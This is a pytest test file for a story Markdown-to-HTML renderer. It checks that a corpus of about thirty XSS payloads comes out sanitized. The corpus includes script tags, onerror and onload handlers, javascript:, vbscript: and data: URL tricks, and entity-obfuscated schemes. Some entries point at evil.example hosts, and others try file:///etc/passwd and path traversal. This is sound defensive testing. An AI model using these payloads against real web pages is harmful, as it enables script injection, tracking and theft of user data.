"""Story Markdown: a corpus of XSS payloads never yields script, handlers or bad URLs."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from server.core.markdown_text import markdown_to_html, markdown_to_text

BLOB = "/blobs/" + "ab" * 32

# Each payload is written as a brand editor could type it into a chapter text.
XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<iframe src=https://evil.example></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click]( javascript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](&#x6A;avascript&#58;alert(1))",
    "[click](java&#x09;script:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](file:///etc/passwd)",
    '[click](https://ok.example "title" onmouseover="alert(1)")',
    '[click](https://ok.example"onmouseover="alert(1))',
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](https://evil.example/track.png)",
    '![x](/blobs/abc" onerror="alert(1))',
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<details open ontoggle=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "<!-- <script>alert(1)</script> -->",
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<form action="https://evil.example"><input name=x></form>',
    "<object data=javascript:alert(1)></object>",
]

ALLOWED_TAGS = {"p", "br", "em", "strong", "a", "ul", "ol", "li", "blockquote", "code", "pre"}
ALLOWED_TAGS |= {"hr", "h4", "h5", "h6", "img"}
ALLOWED_ATTRIBUTES = {"href", "title", "rel", "src", "alt", "start"}
SAFE_URL = re.compile(r"(https?://|mailto:|/|#|[^:/?#]*(?:[/?#]|$))")


class Tags(HTMLParser):
    """Every element and attribute in a piece of HTML, as a browser would parse it."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))


def elements(html: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    parser = Tags()
    parser.feed(html)
    parser.close()
    return parser.found


@pytest.mark.parametrize("payload", XSS)
def test_payload_is_defused(payload: str) -> None:
    html = markdown_to_html(payload)
    for tag, attrs in elements(html):
        assert tag in ALLOWED_TAGS, html
        for name, value in attrs:
            assert name in ALLOWED_ATTRIBUTES, html
            if name in ("href", "src"):
                assert value is not None and SAFE_URL.match(value), (payload, value)
                assert value.startswith("/blobs/") or name == "href", html
                assert not re.search(r"(?i)(java|vb)\W*script|data:", value), html


def test_raw_html_is_shown_as_text() -> None:
    assert markdown_to_html("<b>bold</b>") == "<p>&lt;b&gt;bold&lt;/b&gt;</p>"


def test_script_tag_never_appears() -> None:
    for payload in XSS:
        assert "<script" not in markdown_to_html(payload).lower()


def test_links_keep_safe_targets_and_get_rel() -> None:
    html = markdown_to_html("[a](https://x.example/p) [b](mailto:hi@x.example) [c](/01/123)")
    assert html == (
        '<p><a href="https://x.example/p" rel="nofollow noopener">a</a> '
        '<a href="mailto:hi@x.example" rel="nofollow noopener">b</a> '
        '<a href="/01/123" rel="nofollow noopener">c</a></p>'
    )


@pytest.mark.parametrize("target", ["javascript:alert(1)", "data:text/html,x", "ftp://x.example"])
def test_other_link_schemes_are_not_links(target: str) -> None:
    assert "<a" not in markdown_to_html(f"[x]({target})")


def test_images_only_from_our_blobs() -> None:
    assert markdown_to_html(f"![Drying tables]({BLOB})") == (
        f'<p><img src="{BLOB}" alt="Drying tables"></p>'
    )
    assert "src=" not in markdown_to_html("![x](https://cdn.example/a.png)")
    assert "src=" not in markdown_to_html("![x](/blobs/../etc/passwd)")


def test_headings_sit_below_the_chapter_heading() -> None:
    assert markdown_to_html("# A\n\n## B\n\n#### C") == "<h4>A</h4>\n<h5>B</h5>\n<h6>C</h6>"


def test_plain_story_text_renders_as_one_paragraph() -> None:
    text = "Beans ferment for about six days in wooden boxes, turned every two days."
    assert markdown_to_html(text) == f"<p>{text}</p>"
    assert markdown_to_html("") == "" and markdown_to_html("  \n") == ""


def test_plain_text_for_the_scene_drops_markup() -> None:
    text = (
        "# Farms\n\nSome *beans* from [Ghana](https://x.example).\n\n![map](/blobs/x)\n\n- a\n- b"
    )
    assert markdown_to_text(text) == "Farms\n\nSome beans from Ghana.\n\nmap\n\na\n\nb"
    assert markdown_to_text("<script>x</script>") == "<script>x</script>"
